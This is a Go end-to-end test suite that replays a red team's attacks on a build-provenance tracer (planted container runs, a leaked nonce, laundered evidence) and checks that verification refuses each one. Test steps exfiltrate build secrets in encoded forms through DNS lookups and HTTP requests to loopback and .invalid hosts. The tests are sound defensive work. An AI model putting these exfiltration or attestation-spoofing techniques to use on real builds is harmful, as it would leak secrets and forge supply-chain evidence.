package e2e

import (
	"bytes"
	"context"
	_ "crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"runtime"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/moby/buildkit/solver/pb"
	"github.com/opencontainers/go-digest"
	"google.golang.org/protobuf/proto"

	"github.com/buildtrace/buildtrace/pkg/attest"
	"github.com/buildtrace/buildtrace/pkg/trace"
	"github.com/buildtrace/buildtrace/pkg/tracerapi"
	"github.com/buildtrace/buildtrace/test/lab"
)

// TestRedTeam2 performs the second red-team round's reproductions
// (/tmp/redteam2: A pre-planted run, B leaked nonce, C evidence laundering,
// D secret encodings) through the real lab, the way the red team did, and
// checks each is refused. The "planted" runs are containers started with
// buildctl from a hand-written LLB definition (rt2Def, the red team's
// llbgen) in the cgroup of a step of the victim's Dockerfile, running the
// step's own command on a benign script: if the tracer took such a run as
// the step's, the victim (whose real run talked to a flagged address)
// would verify under the red team's policy.
func TestRedTeam2(t *testing.T) {
	l := lab.Require(t)
	l.RequireTracer(t)
	key := l.TracerPub
	logPath := filepath.Join(l.Dir, "logs", "buildtraced.log")

	// The victim step: the same Dockerfile RUN in every build of a
	// subtest (so one step ID), the real script talking to a flagged
	// destination, the planted one benign but leaving a marker.
	const malicious = "echo \"installed v1\" > /app.txt\n" +
		"# the malicious part: talks to a flagged destination (the policy flags 127.0.0.0/8)\n" +
		"wget -q -O /dev/null http://127.0.0.1:5000/v2/ || true\nsleep 1\n"
	benign := func(marker string) string {
		return "echo \"installed v1\" > /app.txt\ntouch /" + marker + "\nsleep 1\n"
	}
	runLine := func(tag string) (instr, cmd string) {
		cmd = "sh /install.sh # " + tag
		return "RUN --mount=type=bind,source=install.sh,target=/install.sh " + cmd, cmd
	}

	var (
		polOnce sync.Once
		polPath string
	)
	polDir := t.TempDir()
	// The red team's policy: 127.0.0.0/8 flagged, the lab's frontend the
	// only one allowed (its digest taken from the first honest build).
	policy := func(t *testing.T, ctx context.Context, ref string) string {
		t.Helper()
		polOnce.Do(func() {
			fe := rtSignedBuild(t, ctx, l, ref).Requester.ExecutableDigest
			if fe == "" {
				t.Fatalf("%s: the signed trace names no frontend digest", ref)
			}
			p := filepath.Join(polDir, "policy.yaml")
			yaml := "egress:\n  flagged:\n    - 127.0.0.0/8\nfrontend:\n  digests:\n    - \"" + fe + "\"\n"
			if err := os.WriteFile(p, []byte(yaml), 0o644); err != nil {
				t.Fatal(err)
			}
			polPath = p
		})
		if polPath == "" {
			t.Fatal("no policy (see an earlier subtest)")
		}
		return polPath
	}
	// mustNotPass: verify with the policy must refuse ref.
	mustNotPass := func(t *testing.T, ref, pol string) string {
		t.Helper()
		out, code := runCLI(t, l, "verify", ref, "--key", key, "--policy", pol)
		if code == 0 {
			t.Errorf("ATTACK STILL WORKS: verify %s --policy (127.0.0.0/8 flagged) passes:\n%s", ref, out)
		} else {
			t.Logf("verify %s --policy: exit %d (refused)\n%s", ref, code, out)
		}
		return out
	}
	// first: the honest first build, whose real run of the step talked to
	// the flagged destination; returns the step's ID. Verify with the
	// policy must refuse it, or the later checks prove nothing.
	first := func(t *testing.T, ctx context.Context, dir, ref string) string {
		t.Helper()
		res := l.MustBuild(t, ctx, lab.Build{Context: dir, Tag: ref, Push: true})
		if runs, cached := cachedRuns(res.Output); runs == 0 || cached != 0 {
			t.Fatalf("the first build did not run its steps (%d runs, %d cached):\n%s", runs, cached, res.Output)
		}
		p := runtimeTrace(t, ctx, l, ref)
		step := rt2Step(t, p, "sh /install.sh")
		out, code := runCLI(t, l, "verify", ref, "--key", key, "--policy", policy(t, ctx, ref))
		if code == 0 {
			t.Fatalf("the honest run talked to 127.0.0.1:5000, yet verify --policy passes it:\n%s", out)
		}
		return step
	}

	t.Run("A run planted ahead of the build under its trace ID", func(t *testing.T) {
		ctx, cancel := context.WithTimeout(context.Background(), 3*time.Minute)
		defer cancel()
		tag, marker := "a"+randHex(6), "planted-"+randHex(8)
		instr, cmd := runLine(tag)
		df := "# syntax=" + l.Frontend + "\nFROM " + l.BaseImage + "\n" + instr + "\n"
		dir := lab.WriteContext(t, map[string]string{"Dockerfile": df, "install.sh": malicious})
		good := lab.WriteContext(t, map[string]string{"install.sh": benign(marker)})
		e0 := l.Ref("redteam2-a")
		step := first(t, ctx, dir, e0)
		pol := policy(t, ctx, e0)

		// The planted run: the step's cgroup and command, the build's
		// TRACEPARENT chosen ahead, no nonce (there is none to know yet).
		T := randHex(16)
		def := rt2Def(t, step, "", "00-"+T+"-0123456789abcdef-01", "install.sh:/install.sh", []string{"/bin/sh", "-c", cmd})
		if res := rt2Buildctl(ctx, l, def, T, good); res.Err != nil {
			t.Fatalf("the planted run: %v\n%s", res.Err, res.Output)
		}
		// The victim, under the chosen trace ID, its step from the cache.
		pre := l.Ref("redteam2-a")
		res := rtBuildxEnv(ctx, l, []string{"TRACEPARENT=00-" + T + "-0123456789abcdef-01"}, "-t", pre, "--push", dir)
		if res.Err != nil {
			t.Fatalf("the victim build: %v\n%s", res.Err, res.Output)
		}
		if runs, cached := cachedRuns(res.Output); runs != 1 || cached != 1 {
			t.Fatalf("the victim's step was not cached (%d runs, %d cached):\n%s", runs, cached, res.Output)
		}
		rt2PlantedTraced(t, ctx, l, T, step, marker)

		b := rtSignedBuild(t, ctx, l, pre)
		if b.BuildTraceID != T {
			t.Fatalf("the victim was signed as build %s, not the chosen %s", b.BuildTraceID, T)
		}
		for _, s := range rt2Mentions(b.Steps, marker) {
			t.Errorf("ATTACK: the victim's signed trace holds the planted run (container %s, step %s, attribution %q)", s.ContainerID, s.StepID, s.Attribution)
		}
		rt2NoPlantedEvidence(t, b, marker)
		rt2EvidenceFrom(t, b, rtSignedBuild(t, ctx, l, e0).BuildTraceID)
		out := mustNotPass(t, pre, pol)
		if rt2ExecutedIn(out) {
			t.Errorf("verify reports the cached step as executed:\n%s", out)
		}
	})

	t.Run("B nonce leaked by a RUN step of the same build", func(t *testing.T) {
		ctx, cancel := context.WithTimeout(context.Background(), 3*time.Minute)
		defer cancel()
		tag, marker := "b"+randHex(6), "planted-"+randHex(8)
		instr, cmd := runLine(tag)
		leak := "RUN echo \"LEAK NO_PROXY=[$NO_PROXY]\"; sleep 20; echo done " + tag + " > /leaked"
		df := "# syntax=" + l.Frontend + "\nFROM " + l.BaseImage + " AS leak\n" + leak + "\n\n" +
			"FROM " + l.BaseImage + "\n" + instr + "\nCOPY --from=leak /leaked /leaked\n"
		dir := lab.WriteContext(t, map[string]string{"Dockerfile": df, "install.sh": malicious})
		good := lab.WriteContext(t, map[string]string{"install.sh": benign(marker)})
		// X's first run, without the (slow) leak stage: X does not depend
		// on it, so it has the same step ID and cache key.
		e0 := l.Ref("redteam2-b")
		step := first(t, ctx, lab.WriteContext(t, map[string]string{
			"Dockerfile": "# syntax=" + l.Frontend + "\nFROM " + l.BaseImage + "\n" + instr + "\n", "install.sh": malicious}), e0)
		pol := policy(t, ctx, e0)
		from := rtLogSize(t, logPath)

		// E: the leak stage runs again, X comes from the cache; the leak
		// step prints its NO_PROXY.
		E := randHex(16)
		e1 := l.Ref("redteam2-b")
		out, done := rt2BuildxAsync(ctx, l, []string{"TRACEPARENT=00-" + E + "-0123456789abcdef-01"},
			"--no-cache-filter", "leak", "-t", e1, "--push", dir)
		tokRE := regexp.MustCompile(`LEAK NO_PROXY=\[[^\]]*?(buildtrace-[0-9a-f]+\.invalid)`)
		var tok string
		for deadline := time.Now().Add(90 * time.Second); tok == ""; time.Sleep(250 * time.Millisecond) {
			if m := tokRE.FindStringSubmatch(out.String()); m != nil {
				tok = m[1]
				break
			}
			select {
			case r := <-done:
				t.Fatalf("the build ended before its leak step printed NO_PROXY: %v\n%s", r.Err, r.Output)
			default:
			}
			if time.Now().After(deadline) {
				t.Fatalf("the leak step printed no nonce:\n%s", out.String())
			}
		}
		t.Logf("build %s leaked %s", E, tok)
		def := rt2Def(t, step, tok, "00-"+E+"-0123456789abcdef-01", "install.sh:/install.sh", []string{"/bin/sh", "-c", cmd})
		if res := rt2Buildctl(ctx, l, def, E, good); res.Err != nil {
			t.Fatalf("the planted run: %v\n%s", res.Err, res.Output)
		}
		var res lab.Result
		select {
		case res = <-done:
		case <-ctx.Done():
			t.Fatalf("the build did not end: %s", out.String())
		}
		if res.Err != nil {
			t.Fatalf("the build: %v\n%s", res.Err, res.Output)
		}
		if runs, cached := cachedRuns(res.Output); runs != 2 || cached != 1 {
			t.Fatalf("want the leak step run and X cached (%d runs, %d cached):\n%s", runs, cached, res.Output)
		}
		rt2PlantedTraced(t, ctx, l, E, step, marker)

		if got := rt2Step(t, runtimeTrace(t, ctx, l, e1), "sh /install.sh"); got != step {
			t.Fatalf("X has step ID %s in build E, %s in its first build", got, step)
		}
		b := rtSignedBuild(t, ctx, l, e1)
		for _, s := range rt2Mentions(b.Steps, marker) {
			if s.Attribution != trace.AttributionNone {
				t.Errorf("ATTACK: the planted container %s is attributed (%q) to build %s as a run of step %s", s.ContainerID, s.Attribution, E, s.StepID)
			} else {
				t.Logf("the planted container %s is in build %s's trace as unattributed", s.ContainerID, E)
			}
		}
		rt2NoPlantedEvidence(t, b, marker)
		refused := ""
		for _, line := range rtLogLines(t, logPath, from) {
			if strings.Contains(line, "trace="+E) && (strings.Contains(line, "lacks its step's nonce") || strings.Contains(line, "second container")) {
				refused = line
			}
		}
		if refused == "" {
			t.Errorf("the tracer's log says nothing of the planted container lacking build %s's step nonce", E)
		} else {
			t.Logf("tracer: %s", refused)
		}
		mustNotPass(t, e1, pol)
	})

	t.Run("C evidence laundered through runs planted in unrelated builds", func(t *testing.T) {
		ctx, cancel := context.WithTimeout(context.Background(), 3*time.Minute)
		defer cancel()
		tag, marker := "c"+randHex(6), "planted-"+randHex(8)
		instr, cmd := runLine(tag)
		df := "# syntax=" + l.Frontend + "\nFROM " + l.BaseImage + "\n" + instr + "\n"
		dir := lab.WriteContext(t, map[string]string{"Dockerfile": df, "install.sh": malicious})
		good := lab.WriteContext(t, map[string]string{"install.sh": benign(marker)})
		v0 := l.Ref("redteam2-c")
		step := first(t, ctx, dir, v0)
		pol := policy(t, ctx, v0)

		// Four unrelated builds G (as many as the tracer offers evidence
		// runs per step), each with a run of Z planted while it runs,
		// under its trace ID: G never planned Z, so Z has no nonce there.
		const n = 4
		gIDs := make([]string, n)
		errs := make([]error, n)
		var wg sync.WaitGroup
		for i := range n {
			gIDs[i] = randHex(16)
			wg.Add(1)
			go func(i int) {
				defer wg.Done()
				errs[i] = rt2PlantInUnrelated(ctx, l, gIDs[i], step, cmd, good)
			}(i)
		}
		wg.Wait()
		for i, err := range errs {
			if err != nil {
				t.Fatalf("unrelated build %s: %v", gIDs[i], err)
			}
		}
		for _, g := range gIDs {
			rt2PlantedTraced(t, ctx, l, g, step, marker)
		}

		v := l.Ref("redteam2-c")
		res := l.MustBuild(t, ctx, lab.Build{Context: dir, Tag: v, Push: true})
		if runs, cached := cachedRuns(res.Output); runs != 1 || cached != 1 {
			t.Fatalf("the victim's step was not cached (%d runs, %d cached):\n%s", runs, cached, res.Output)
		}
		b := rtSignedBuild(t, ctx, l, v)
		for _, e := range b.Evidence {
			for _, g := range gIDs {
				if e.BuildTraceID == g {
					t.Errorf("ATTACK: the victim's evidence for step %s comes from unrelated build %s (container %s)", e.StepID, g, e.ContainerID)
				}
			}
		}
		rt2NoPlantedEvidence(t, b, marker)
		rt2EvidenceFrom(t, b, rtSignedBuild(t, ctx, l, v0).BuildTraceID)
		p := runtimeTrace(t, ctx, l, v)
		for _, s := range p.Buildtrace.Steps {
			for _, e := range s.Evidence {
				for _, g := range gIDs {
					if e.BuildTraceID == g {
						t.Errorf("ATTACK: the predicate's evidence for %s names unrelated build %s", s.StepID, g)
					}
				}
			}
		}
		mustNotPass(t, v, pol)
	})

	t.Run("D secrets", func(t *testing.T) {
		ctx, cancel := context.WithTimeout(context.Background(), 3*time.Minute)
		defer cancel()
		sec := t.TempDir()
		writeSecret := func(name, v string) string {
			p := filepath.Join(sec, name)
			if err := os.WriteFile(p, []byte(v), 0o600); err != nil {
				t.Fatal(err)
			}
			return p
		}

		t.Run("a 3-byte secret makes the step incomplete", func(t *testing.T) {
			short := randHex(2)[:3]
			df := "# syntax=" + l.Frontend + "\nFROM " + l.BaseImage + "\n" +
				"RUN --mount=type=secret,id=short,env=S3 /bin/sh -c '/bin/echo \"short=$S3 " + randHex(6) + "\"; sleep 1'\n"
			ref := l.Ref("redteam2-d")
			l.MustBuild(t, ctx, lab.Build{Context: lab.WriteContext(t, map[string]string{"Dockerfile": df}), Tag: ref, Push: true,
				Args: []string{"--secret", "id=short,src=" + writeSecret("short", short)}})
			out, code := runCLI(t, l, "verify", ref, "--key", key)
			if code == 0 {
				t.Fatalf("ATTACK STILL WORKS: a step with a 3-byte secret verifies by default:\n%s", out)
			}
			if !strings.Contains(out, "shorter than") || !strings.Contains(out, "secret") {
				t.Errorf("verify fails, but no reason names the short secret:\n%s", out)
			}
			p := runtimeTrace(t, ctx, l, ref)
			incomplete := false
			for _, s := range p.Buildtrace.Steps {
				for _, r := range s.Runs {
					if !r.Completeness.Complete && strings.Contains(strings.Join(r.Completeness.Reasons, "\n"), "secret shorter than") {
						incomplete = true
					}
				}
			}
			if !incomplete {
				t.Errorf("no run of the step is incomplete for its short secret: %+v", p.Buildtrace.Steps)
			}
		})

		t.Run("encoded forms of a secret appear nowhere", func(t *testing.T) {
			tok := "GhpSecret" + randHex(8) + "x"    // 26 bytes: base64 padded
			pw := "pa\"ss{w}rd|" + randHex(6) + "~x" // URL-escaped
			logFrom := rtLogSize(t, logPath)
			df := "# syntax=" + l.Frontend + "\nFROM " + l.BaseImage + "\n" +
				"RUN --mount=type=secret,id=tok,env=TOK --mount=type=secret,id=pw,env=PW /bin/sh -c '" +
				"/bin/echo \"b64=$(printf %s \"$TOK\" | base64)\"; " +
				"/bin/echo \"hex=$(printf %s \"$TOK\" | od -An -tx1 | tr -d \" \\n\")\"; " +
				"/bin/echo \"up=$(printf %s \"$TOK\" | tr a-z A-Z)\"; " +
				"/bin/echo \"url=$(printf %s \"$PW\" | sed \"s/\\\"/%22/g; s/{/%7B/g; s/}/%7D/g; s/|/%7C/g\")\"; " +
				"/bin/echo \"urll=$(printf %s \"$PW\" | sed \"s/\\\"/%22/g; s/{/%7B/g; s/}/%7D/g; s/|/%7C/g\" | tr A-Z a-z)\"; " +
				"nslookup \"$TOK.example.invalid\" 127.0.0.1 >/dev/null 2>&1; " +
				"wget -q -T 1 -O /dev/null \"http://127.0.0.1:9/$PW\"; " +
				"mkdir -p /tmp/www && echo hi > \"/tmp/www/$PW\" && httpd -p 127.0.0.1:8099 -h /tmp/www && wget -q -O /got \"http://127.0.0.1:8099/$PW?t=$TOK\"; " +
				"mkdir -p /out/$TOK; touch /out/$TOK/f; sleep 1; true " + randHex(6) + "'\n"
			ref := l.Ref("redteam2-d")
			res := l.MustBuild(t, ctx, lab.Build{Context: lab.WriteContext(t, map[string]string{"Dockerfile": df}), Tag: ref, Push: true,
				Args: []string{"--secret", "id=tok,src=" + writeSecret("tok", tok), "--secret", "id=pw,src=" + writeSecret("pw", pw)}})
			if !strings.Contains(res.Output, "url="+url.PathEscape(pw)) {
				t.Errorf("the step did not print the URL-escaped secret %q:\n%s", url.PathEscape(pw), res.Output)
			}
			if !strings.Contains(res.Output, "b64=") {
				t.Fatalf("the step did not print the encoded secret:\n%s", res.Output)
			}
			forms := rt2Forms(tok)
			for k, v := range rt2Forms(pw) {
				forms["pw "+k] = v
			}
			img := l.Image(t, ctx, ref)
			att, ok := img.ForManifest(img.Manifests[0].Descriptor.Digest)
			if !ok {
				t.Fatalf("%s has no attestation", ref)
			}
			p := runtimeTrace(t, ctx, l, ref)
			payload, err := p.Buildtrace.Envelope.DecodeB64Payload()
			if err != nil {
				t.Fatal(err)
			}
			texts := map[string]string{"the signed payload": string(payload)}
			for _, st := range att.Statements {
				texts["the attestation statement "+st.PredicateType] = string(st.Data)
			}
			lg, err := os.ReadFile(logPath)
			if err != nil {
				t.Fatal(err)
			}
			texts["buildtraced.log"] = string(lg)
			out, code := runCLI(t, l, "show", ref, "--key", key)
			expectCode(t, out, code, 0, "show", ref)
			texts["buildtrace show"] = out
			for where, text := range texts {
				low := strings.ToLower(text)
				for name, f := range forms {
					if strings.Contains(low, strings.ToLower(f)) {
						t.Errorf("ATTACK STILL WORKS: %s holds the secret's %s form %q", where, name, f)
					}
				}
			}
			redacted := false
			for _, s := range p.Buildtrace.Steps {
				if strings.Contains(s.Instruction, "secret") && len(s.Runs) == 0 {
					t.Fatalf("the secret step did not run: %+v", s)
				}
			}
			if strings.Contains(string(payload), trace.RedactedSecret) {
				redacted = true
			}
			// The encoded forms were recorded (as redactions), so their
			// absence above is the redaction's doing.
			for _, w := range []string{`"b64=` + trace.RedactedSecret + `"`, `"hex=` + trace.RedactedSecret + `"`, `"up=` + trace.RedactedSecret + `"`,
				`"url=` + trace.RedactedSecret + `"`, `"urll=` + trace.RedactedSecret + `"`,
				trace.RedactedSecret + ".example.invalid", "127.0.0.1:8099/" + trace.RedactedSecret} {
				if !strings.Contains(string(payload), w) {
					t.Errorf("the signed payload lacks %s: the step's encoded secret was not recorded (or recorded otherwise)", w)
				}
			}
			if !redacted {
				t.Errorf("the signed payload shows no %s: nothing was redacted?", trace.RedactedSecret)
			}
			n := 0
			for _, line := range rtLogLines(t, logPath, logFrom) {
				if strings.Contains(line, "trace=") {
					n++
				}
			}
			t.Logf("checked %d forms in %d places (%d new tracer log lines)", len(forms), len(texts), n)
		})
	})
}

// rt2Step returns the ID of the step whose instruction contains s.
func rt2Step(t *testing.T, p *attest.Predicate, s string) string {
	t.Helper()
	for _, st := range p.Buildtrace.Steps {
		if strings.Contains(st.Instruction, s) {
			if st.StepID == "" {
				t.Fatalf("step %q has no ID", st.Instruction)
			}
			return st.StepID
		}
	}
	t.Fatalf("no step %q in %+v", s, p.Buildtrace.Steps)
	return ""
}

// rt2Def is the red team's llbgen: an LLB definition of one busybox
// container in cgroup /buildtrace/<step>, NO_PROXY carrying noProxy (when
// set), TRACEPARENT in its environment, argv, and a read-only bind mount
// "selector:dest" from the local context "ctx".
func rt2Def(t *testing.T, step, noProxy, traceparent, mountSel string, argv []string) []byte {
	t.Helper()
	def, err := rt2DefBytes(step, noProxy, traceparent, mountSel, argv)
	if err != nil {
		t.Fatal(err)
	}
	return def
}

func rt2DefBytes(step, noProxy, traceparent, mountSel string, argv []string) ([]byte, error) {
	var merr error
	m := func(op *pb.Op) ([]byte, digest.Digest) {
		b, err := proto.MarshalOptions{Deterministic: true}.Marshal(op)
		if err != nil {
			merr = err
		}
		return b, digest.FromBytes(b)
	}
	plat := &pb.Platform{OS: "linux", Architecture: runtime.GOARCH}
	src := &pb.Op{Op: &pb.Op_Source{Source: &pb.SourceOp{Identifier: "docker-image://127.0.0.1:5000/library/busybox:latest"}}, Platform: plat}
	srcB, srcD := m(src)
	defs := [][]byte{srcB}
	inputs := []*pb.Input{{Digest: string(srcD), Index: 0}}
	mounts := []*pb.Mount{{Input: 0, Dest: "/", Output: 0}}
	if mountSel != "" {
		sel, dest, _ := strings.Cut(mountSel, ":")
		loc := &pb.Op{Op: &pb.Op_Source{Source: &pb.SourceOp{Identifier: "local://ctx", Attrs: map[string]string{"local.sharedkeyhint": "ctx"}}}}
		lb, ld := m(loc)
		defs = append(defs, lb)
		inputs = append(inputs, &pb.Input{Digest: string(ld), Index: 0})
		mounts = append(mounts, &pb.Mount{Input: 1, Selector: sel, Dest: dest, Output: -1, Readonly: true})
	}
	env := []string{"PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"}
	if traceparent != "" {
		env = append(env, "TRACEPARENT="+traceparent)
	}
	meta := &pb.Meta{Args: argv, Env: env, Cwd: "/", CgroupParent: "/buildtrace/" + step}
	if noProxy != "" {
		meta.ProxyEnv = &pb.ProxyEnv{NoProxy: noProxy}
	}
	ex := &pb.Op{Inputs: inputs, Op: &pb.Op_Exec{Exec: &pb.ExecOp{Meta: meta, Mounts: mounts}}, Platform: plat}
	exB, exD := m(ex)
	defs = append(defs, exB)
	term := &pb.Op{Inputs: []*pb.Input{{Digest: string(exD), Index: 0}}}
	tB, _ := m(term)
	defs = append(defs, tB)
	if merr != nil {
		return nil, merr
	}
	return proto.Marshal(&pb.Definition{Def: defs})
}

// rt2Buildctl runs `buildctl build --no-cache` on def (stdin) with the
// local context ctx=dir, the client's TRACEPARENT naming traceID.
func rt2Buildctl(ctx context.Context, l *lab.Lab, def []byte, traceID, dir string) lab.Result {
	ctx, cancel := context.WithTimeout(ctx, 90*time.Second)
	defer cancel()
	args := []string{"--addr", l.BuildkitAddr, "build", "--no-cache", "--progress", "plain", "--local", "ctx=" + dir}
	cmd := exec.CommandContext(ctx, filepath.Join(l.Dir, "bin", "buildctl"), args...)
	cmd.Env = append(os.Environ(), "TRACEPARENT=00-"+traceID+"-1111111111111111-01")
	cmd.Stdin = bytes.NewReader(def)
	start := time.Now()
	out, err := cmd.CombinedOutput()
	res := lab.Result{Output: string(out), Duration: time.Since(start)}
	if err != nil {
		res.Err = fmt.Errorf("buildctl %s: %w", strings.Join(args, " "), err)
	}
	return res
}

// rt2Buf is an output buffer safe to read while a command writes it.
type rt2Buf struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (w *rt2Buf) Write(p []byte) (int, error) {
	w.mu.Lock()
	defer w.mu.Unlock()
	return w.b.Write(p)
}

func (w *rt2Buf) String() string {
	w.mu.Lock()
	defer w.mu.Unlock()
	return w.b.String()
}

// rt2BuildxAsync starts `docker buildx build` on the lab's builder; its
// output can be read while it runs, its result arrives on the channel.
func rt2BuildxAsync(ctx context.Context, l *lab.Lab, env []string, args ...string) (*rt2Buf, <-chan lab.Result) {
	all := append([]string{"buildx", "build", "--builder", l.Builder, "--progress", "plain"}, args...)
	cmd := exec.CommandContext(ctx, "docker", all...)
	cmd.Env = append(os.Environ(), env...)
	out := &rt2Buf{}
	cmd.Stdout, cmd.Stderr = out, out
	done := make(chan lab.Result, 1)
	start := time.Now()
	go func() {
		err := cmd.Run()
		res := lab.Result{Output: out.String(), Duration: time.Since(start)}
		if err != nil {
			res.Err = fmt.Errorf("docker %s: %w", strings.Join(all, " "), err)
		}
		done <- res
	}()
	return out, done
}

// rt2PlantInUnrelated runs an unrelated build under trace ID g and, while
// its RUN runs, a planted run of step (command cmd, benign script from
// dir) under g's TRACEPARENT.
func rt2PlantInUnrelated(ctx context.Context, l *lab.Lab, g, step, cmd, dir string) error {
	marker := "g-" + g
	gdir, err := os.MkdirTemp("", "redteam2-g-")
	if err != nil {
		return err
	}
	defer os.RemoveAll(gdir)
	df := "# syntax=" + l.Frontend + "\nFROM " + l.BaseImage + "\nRUN echo " + marker + "; sleep 8\n"
	if err := os.WriteFile(filepath.Join(gdir, "Dockerfile"), []byte(df), 0o644); err != nil {
		return err
	}
	out, done := rt2BuildxAsync(ctx, l, []string{"TRACEPARENT=00-" + g + "-0123456789abcdef-01"}, "-t", l.Ref("redteam2-g"), "--push", gdir)
	for deadline := time.Now().Add(90 * time.Second); !strings.Contains(out.String(), " "+marker+"\n"); time.Sleep(200 * time.Millisecond) {
		select {
		case r := <-done:
			return fmt.Errorf("ended before its RUN printed: %v\n%s", r.Err, r.Output)
		default:
		}
		if time.Now().After(deadline) {
			return fmt.Errorf("its RUN never started:\n%s", out.String())
		}
	}
	def, err := rt2DefBytes(step, "", "00-"+g+"-0123456789abcdef-01", "install.sh:/install.sh", []string{"/bin/sh", "-c", cmd})
	if err != nil {
		return err
	}
	if res := rt2Buildctl(ctx, l, def, g, dir); res.Err != nil {
		return fmt.Errorf("the planted run: %v\n%s", res.Err, res.Output)
	}
	select {
	case r := <-done:
		if r.Err != nil {
			return fmt.Errorf("%v\n%s", r.Err, r.Output)
		}
	case <-ctx.Done():
		return ctx.Err()
	}
	return nil
}

// rt2PlantedTraced logs whether the tracer saw the planted run (admin
// trace of build id: no plan filtering), so a refusal can be told from an
// attack that did not happen.
func rt2PlantedTraced(t *testing.T, ctx context.Context, l *lab.Lab, id, step, marker string) {
	t.Helper()
	env, err := tracerapi.AdminClient(l.TracerAdmin).Trace(ctx, id, 10*time.Second)
	if err != nil {
		t.Logf("admin trace of %s: %v", id, err)
		return
	}
	b, err := attest.DecodeEnvelope(env)
	if err != nil {
		t.Logf("admin trace of %s: %v", id, err)
		return
	}
	for _, s := range rt2Mentions(b.Steps, marker) {
		t.Logf("the tracer saw the planted run: build %s, container %s, step %s (the victim's is %s), attribution %q", id, s.ContainerID, s.StepID, step, s.Attribution)
		return
	}
	t.Logf("the admin trace of build %s does not hold the planted run (%d steps)", id, len(b.Steps))
}

// rt2Mentions returns the runs that name marker.
func rt2Mentions(steps []trace.Step, marker string) []trace.Step {
	var out []trace.Step
	for i := range steps {
		if rtStepMentions(&steps[i], marker) {
			out = append(out, steps[i])
		}
	}
	return out
}

// rt2NoPlantedEvidence fails when a run b's evidence names (in the signed
// envelope it came with) is a planted one.
func rt2NoPlantedEvidence(t *testing.T, b *trace.Build, marker string) {
	t.Helper()
	envs := b.EvidenceEnvelopes()
	for _, e := range b.Evidence {
		env := envs[e.BuildTraceID]
		if env == nil {
			t.Errorf("evidence of step %s names build %s without its envelope", e.StepID, e.BuildTraceID)
			continue
		}
		eb, err := attest.DecodeEnvelope(env)
		if err != nil {
			t.Errorf("evidence envelope of build %s: %v", e.BuildTraceID, err)
			continue
		}
		for i := range eb.Steps {
			s := &eb.Steps[i]
			if s.ContainerID == e.ContainerID && rtStepMentions(s, marker) {
				t.Errorf("ATTACK: the evidence of step %s is the planted run %s of build %s", e.StepID, e.ContainerID, e.BuildTraceID)
			}
		}
	}
	t.Logf("%d evidence run(s), none of them planted", len(b.Evidence))
}

// rt2EvidenceFrom fails unless b's evidence names build id (the step's
// real first run): the refusal is then the policy's, on that run.
func rt2EvidenceFrom(t *testing.T, b *trace.Build, id string) {
	t.Helper()
	for _, e := range b.Evidence {
		if e.BuildTraceID == id {
			return
		}
	}
	t.Errorf("the cached step's evidence does not name the build that really ran it (%s): %+v", id, b.Evidence)
}

// rt2ExecutedIn reports whether verify's text output calls a step
// "executed" (the victim's one step is cached).
func rt2ExecutedIn(out string) bool {
	for _, line := range strings.Split(out, "\n") {
		if strings.Contains(line, "sh /install.sh") && strings.Contains(line, "executed") {
			return true
		}
	}
	return false
}

// rt2Forms returns a secret's encoded forms the tracer must redact.
func rt2Forms(s string) map[string]string {
	b := []byte(s)
	forms := map[string]string{
		"raw":             s,
		"base64":          base64.StdEncoding.EncodeToString(b),
		"base64 unpadded": base64.RawStdEncoding.EncodeToString(b),
		"base64url":       base64.URLEncoding.EncodeToString(b),
		"base64url raw":   base64.RawURLEncoding.EncodeToString(b),
		"hex":             hex.EncodeToString(b),
		"upper case":      strings.ToUpper(s),
		"path-escaped":    url.PathEscape(s),
		"query-escaped":   url.QueryEscape(s),
		"percent-all":     strings.ReplaceAll(url.QueryEscape(s), "+", "%20"),
	}
	for k, v := range forms {
		if k != "raw" && v == s {
			delete(forms, k)
		}
	}
	return forms
}
